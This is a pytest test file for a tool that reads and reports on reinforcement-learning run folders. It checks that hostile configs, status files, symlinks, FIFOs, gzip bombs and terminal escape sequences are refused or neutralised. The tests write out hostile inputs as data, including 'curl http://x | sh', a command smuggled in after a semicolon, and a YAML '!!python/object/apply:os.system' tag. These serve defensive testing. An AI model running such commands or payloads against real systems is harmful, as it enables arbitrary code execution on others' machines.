"""The readers of runs on folders that somebody else made; scripts/reliability/payloads.py has more of them."""

from __future__ import annotations

import gzip
import json
import os
import re
import shlex

import pytest
from helpers.made_runs import make_run

from rrn.common.errors import UserError
from rrn.common.foreign_files import find_files, read_bounded, read_packed
from rrn.common.printable import printable
from rrn.config.foreign import MOST_BYTES
from rrn.config.load import load_run_config
from rrn.report.__main__ import main
from rrn.report.missing import to_do
from rrn.report.runs import read_runs
from rrn.runs.folder import check_no_links
from rrn.runs.status_file import load_status
from rrn.status import rows_under

LAUGHS = "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}' if n else 'ha'] * 10)}]\n" for n in range(12))
CHAIN = "".join(f"b{n}: {(f'${{b{n - 1}}}' if n else 'ha') * 10}\n" for n in range(12))


@pytest.fixture
def run(tmp_path):
    return make_run(tmp_path / "runs", "Pong", "rational", 0)


@pytest.mark.parametrize(
    ("old", "new", "message"),
    [
        ("experiment: paper", "experiment: ${oc.env:HOME}", r"expected references to settings .* got '\$\{oc.env:HOME"),
        ("experiment: paper", "experiment: ${env.${oc.env:HOME}}", "expected references to settings"),
        ("agent:", f"{CHAIN}agent:", "expected at most 16 references .* got 110"),
        ("agent:", f"{LAUGHS}agent:", r"line 2: expected no alias, got \*a0"),
        ("agent:", f"x: {'[' * 100_000}\nagent:", "line 1: expected values at most 20 deep"),
        ("\nsteps: 100000", f"\nsteps: {'9' * 5_000}", "expected at most 4,096 characters, got 5,000"),
        ("steps: 100000", f"steps: {'9' * 4_000}", r"expected whole numbers below 2\^63"),
        ("agent:", "x: !!python/object/apply:os.system [ls]\nagent:", "this file is damaged .line 1."),
        ("agent:", f"x: {'y' * MOST_BYTES}\nagent:", "expected at most 262,144 bytes"),
        ("  target: null", "  target: runs.evil:Agent", "expected a class outside of the folders of runs"),
    ],
)
def test_a_config_that_no_run_writes_is_refused(run, monkeypatch, old, new, message):
    (run.parents[2] / "evil.py").write_text("raise SystemExit('run')\n", encoding="utf-8")
    monkeypatch.chdir(run.parents[3])
    text = (run / "config.yaml").read_text("utf-8")
    assert old in text
    (run / "config.yaml").write_text(text.replace(old, new, 1), encoding="utf-8")
    with pytest.raises(UserError, match=f"config.yaml: .*{message}"):
        load_run_config(run, run.parents[2])


def test_references_to_settings_are_resolved(run):
    text = (run / "config.yaml").read_text("utf-8")
    text = re.sub(r"run_dir: .*", "run_dir: runs/${env.name}/${agent.name}-${ act.name }", text)
    (run / "config.yaml").write_text(text, encoding="utf-8")
    assert load_run_config(run).run_dir == "runs/Pong/dqn-rational"


def test_what_is_no_file_of_the_run_is_not_read(run, tmp_path):
    secret = tmp_path / "secret"
    secret.write_text("1", encoding="utf-8")
    for name, make in {
        "link": lambda path: path.symlink_to(secret),
        "device": lambda path: path.symlink_to("/dev/zero"),
        "circle": lambda path: path.symlink_to(path.name),
    }.items():
        make(run / name)
        with pytest.raises((ValueError, OSError), match=r"got a link|symbolic links") as error:
            read_bounded(run / name)
        assert str(run / name) in str(error.value)
    os.mkfifo(run / "pipe")
    with pytest.raises(ValueError, match="pipe: expected a file, got something else"):
        read_bounded(run / "pipe")
    (run / "inner").symlink_to("config.yaml")
    assert read_bounded(run / "inner") == (run / "config.yaml").read_bytes()
    (run / "bomb.gz").write_bytes(gzip.compress(bytes(1 << 20)))
    assert len(read_packed(run / "bomb", 1 << 20)) == 1 << 20
    with pytest.raises(ValueError, match=r"bomb\.gz: expected at most 1,048,575 bytes"):
        read_packed(run / "bomb", (1 << 20) - 1)


def test_a_linked_video_is_named_and_not_embedded(run, tmp_path, capsys):
    (tmp_path / "secret").write_text("secret", encoding="utf-8")
    (run / "x.mp4").symlink_to(tmp_path / "secret")
    os.mkfifo(run / "y.mp4")
    main([str(tmp_path / "runs"), "--out", str(tmp_path / "page.html")])
    page = (tmp_path / "page.html").read_text("utf-8")
    assert "<video" not in page
    assert "x.mp4: expected a file of this run, got a link to another place" in page
    assert "y.mp4: expected a file, got something else" in page


def change(run, **values) -> None:
    path = run / "status.json"
    path.write_text(json.dumps(json.loads(path.read_text("utf-8")) | values), encoding="utf-8")


@pytest.mark.parametrize(
    ("command", "ours"),
    [
        ("python -m rrn.train agent=dqn env=Pong act=rational seed=0 run_dir='my runs' resume=true", True),
        ("curl http://x | sh", False),
        ("python -m rrn.train env=Pong; curl http://x", False),
        ("python -m rrn.train env=Qbert", False),
        ("python -m rrn.train hydra.run.dir=/tmp", False),
        ("python -m rrn.train --config-dir=/tmp", False),
        ("python -m rrn.train act=os:system", False),
        ("python -m other.train env=Pong", False),
        ("python -m rrn.train 'run_dir=a\nb'", False),
    ],
)
def test_only_a_command_that_goes_on_with_the_run_is_shown(run, command, ours):
    change(run, state="stopped", go_on=command)
    (left, *_) = to_do(read_runs([run])[0], 1)
    assert (left.command and shlex.split(left.command)) == (shlex.split(command) if ours else None)
    assert ("the command in its status.json is none" in left.what) != ours


@pytest.mark.parametrize(
    "values",
    [
        {"step": 10**400},
        {"step": True},
        {"step": [1]},
        {"last_return": "x"},
        {"last_evaluation": float("nan")},
        {"steps_per_second": float("inf")},
        {"pid": -1},
        {"host": 5},
        {"why": 5},
    ],
)
def test_a_status_that_no_run_writes_is_named(run, values, capsys):
    change(run, **values)
    name = next(iter(values))
    with pytest.raises(ValueError, match=rf"status\.json: this file is damaged \({name} is "):
        load_status(run)
    rows, damaged = rows_under(run)
    assert (len(rows), len(damaged)) == (0, 1)
    main([str(run), "--out", str(run / "page.html")])
    assert "status.json: this file is damaged" in " ".join(capsys.readouterr().out.split())


@pytest.mark.parametrize(
    ("name", "line", "message"),
    [
        ("scalars.csv", "hello", "scalars.csv, line 24: expected step,name,value, got 'hello'"),
        ("scalars.csv", "9" * 5_000 + ",evaluation/mean,1", "scalars.csv, line 24: expected step,name,value"),
        ("scalars.csv", "900000,evaluation/mean,1e999", "scalars.csv, line 24: expected finite scores, got inf"),
        ("shapes.jsonl", "{}", "shapes.jsonl, line 12: expected a snapshot; it is damaged"),
        ("shapes.jsonl", '{"step": 1, "places": {"a": {"kind": 1}}}', "line 12: .* kind: expected a name, got 1"),
        ("shapes.jsonl", '{"step": ' + "[" * 100_000 + "}", "shapes.jsonl, line 12: expected a snapshot"),
    ],
)
def test_a_damaged_line_is_named_with_its_number(run, tmp_path, capsys, name, line, message):
    make_run(tmp_path / "runs", "Pong", "silu", 0)
    with (run / name).open("a", encoding="utf-8") as file:
        file.write(f"{line}\n")
    main([str(tmp_path / "runs"), "--out", str(tmp_path / "page.html")])
    printed = " ".join(capsys.readouterr().out.split())
    assert re.search(message.replace(" ", ""), printed.replace(" ", ""))  # which is folded to the width
    assert "silu" in printed


def test_names_reach_no_terminal_as_they_are(tmp_path, capsys):
    escape = "\x1b]0;owned\x07\u202e"
    run = make_run(
        tmp_path / "runs", "Pong", "rational", 0, folder=tmp_path / "runs" / escape, state="failed", why=escape
    )
    text = (run / "config.yaml").read_text("utf-8")
    (run / "config.yaml").write_text(text.replace("name: Pong", f"name: {json.dumps(escape + '[/b]')}", 1), "utf-8")
    main([str(tmp_path / "runs"), "--out", str(tmp_path / "page.html")])
    printed = capsys.readouterr().out
    assert r"\x1b]0;owned\x07\u202e[/b]" in printed
    assert "\x1b" not in printed + (tmp_path / "page.html").read_text("utf-8")
    assert printable("größer 中 😀") == "größer 中 😀"
    assert printable("a\nb\udcff") == r"a\nb\udcff"


def test_a_game_with_the_name_of_a_part_of_the_page_has_an_id_of_its_own(run, tmp_path):
    text = (run / "config.yaml").read_text("utf-8")
    (run / "config.yaml").write_text(text.replace("name: Pong", "name: charts", 1), encoding="utf-8")
    main([str(run), "--out", str(tmp_path / "page.html")])
    page = re.sub(r"<script>.*?</script>", "", (tmp_path / "page.html").read_text("utf-8"), flags=re.DOTALL)
    assert page.count('id="charts"') == page.count('id="game-charts"') == 1


def test_a_folder_with_links_out_of_it_is_not_written_to(run, tmp_path):
    (run / "output.log").symlink_to(tmp_path / "elsewhere")
    with pytest.raises(UserError, match=r"output\.log: expected a file of this run, got a link"):
        check_no_links(run)
    (run / "output.log").unlink()
    (run / "checkpoints").symlink_to(tmp_path)  # a folder on a larger disk is the user's own
    check_no_links(run)


def test_folders_nested_without_end_and_links_in_a_circle_are_searched(run):
    (run / "again").symlink_to(run)
    inner = run
    for _ in range(60):
        inner = inner / "d"
        inner.mkdir()
    (inner / "config.yaml").touch()
    assert find_files(run, ["config.yaml"]) == [run / "config.yaml"]
